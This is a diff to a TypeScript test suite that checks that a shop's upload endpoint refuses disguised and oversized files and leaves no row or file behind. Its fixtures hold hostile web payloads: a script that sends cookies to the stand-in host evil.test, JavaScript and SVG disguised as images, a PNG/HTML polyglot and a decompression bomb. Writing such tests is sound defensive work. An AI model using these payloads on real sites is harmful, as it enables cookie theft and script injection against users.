@@ -5,6 +5,7 @@ import { expectNoLeak, expectRefused, PEOPLE, startShopUnderAttack, type Reply, 
 
 let shop: ShopUnderAttack;
 let before: Record<string, unknown[]>;
+let filesBefore: Record<string, number>;
 const { shopper } = PEOPLE;
 const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
 
@@ -44,8 +45,15 @@ const HTML = '<!doctype html><html><body><script>fetch("https://evil.test/?c="+d
 beforeAll(async () => {
   shop = await startShopUnderAttack();
   before = await shop.snapshot();
+  filesBefore = await shop.uploadedFiles();
 }, 60_000);
 afterAll(() => shop.close());
+
+/** No row changed and no file was left in the uploads folder, not even a partial one. */
+async function expectNothingChanged() {
+  expect(await shop.snapshot()).toEqual(before);
+  expect(await shop.uploadedFiles()).toEqual(filesBefore);
+}
 
 describe('uploads that lie or overwhelm', () => {
   it.each([
@@ -55,23 +63,23 @@ describe('uploads that lie or overwhelm', () => {
     ['SVG behind an XML prolog named .jpg', `<?xml version="1.0"?>${SVG}`, 'avatar.jpg', 'image/jpeg'],
     ['JavaScript named .jpeg', 'alert(document.cookie)', 'avatar.jpeg', 'image/jpeg'],
     ['a GIF named .png', 'GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;', 'avatar.png', 'image/png'],
-  ])('%s is refused as not an image (400 naming file), and nothing changes', async (_, content, name, type) => {
+  ])('%s is refused as not an image (400 naming file), and no row or file changes', async (_, content, name, type) => {
     const reply = await upload(new TextEncoder().encode(content), name, type);
     expectRefused(reply, 400, 'file');
     expect(reply.body.url).toBeUndefined();
-    expect(await shop.snapshot()).toEqual(before);
+    await expectNothingChanged();
   });
 
   it('a PNG signature followed by HTML (a polyglot) is refused as unreadable (400 naming file)', async () => {
     const reply = await upload(Buffer.concat([PNG_SIGNATURE, Buffer.from(HTML)]), 'avatar.png', 'image/png');
     expectRefused(reply, 400, 'file');
-    expect(await shop.snapshot()).toEqual(before);
+    await expectNothingChanged();
   });
 
   it('a file over 5 MB, image signature and all, is 413', async () => {
     const reply = await upload(Buffer.concat([PNG_SIGNATURE, Buffer.alloc(5 * 1024 * 1024)]), 'huge.png', 'image/png');
     expectRefused(reply, 413);
-    expect(await shop.snapshot()).toEqual(before);
+    await expectNothingChanged();
   });
 
   it.each([
@@ -86,22 +94,22 @@ describe('uploads that lie or overwhelm', () => {
     const reply = await upload(bomb, 'tiny.png', 'image/png');
     expectRefused(reply, 413, 'file');
     expect(Date.now() - started).toBeLessThan(2000);
-    expect(await shop.snapshot()).toEqual(before);
+    await expectNothingChanged();
   });
 
   it('a PNG just under the pixel limit whose data is cut short is refused as unreadable (400), not decoded into an error page', async () => {
     const reply = await upload(claimedPng(7000, 7000), 'tiny.png', 'image/png');
     expectRefused(reply, 400, 'file');
-    expect(await shop.snapshot()).toEqual(before);
+    await expectNothingChanged();
   });
 
-  it('an upload that is not multipart, or has no file, is a 400 and never a 5xx', async () => {
+  it('an upload that is not multipart, or has no file, is a 400 and never a 5xx, and no row or file changes', async () => {
     const token = await shop.backend.tokenFor(shopper);
     const json = await shop.call('post', '/uploads', { as: shopper, body: { file: HTML } });
     expectNoLeak(json);
     expect(json.status).toBe(400);
     const empty = await fetch(`${shop.backend.baseUrl}/uploads`, { method: 'POST', body: new FormData(), headers: { authorization: `Bearer ${token}` } });
     expect(empty.status).toBe(400);
-    expect(await shop.snapshot()).toEqual(before);
+    await expectNothingChanged();
   });
 });
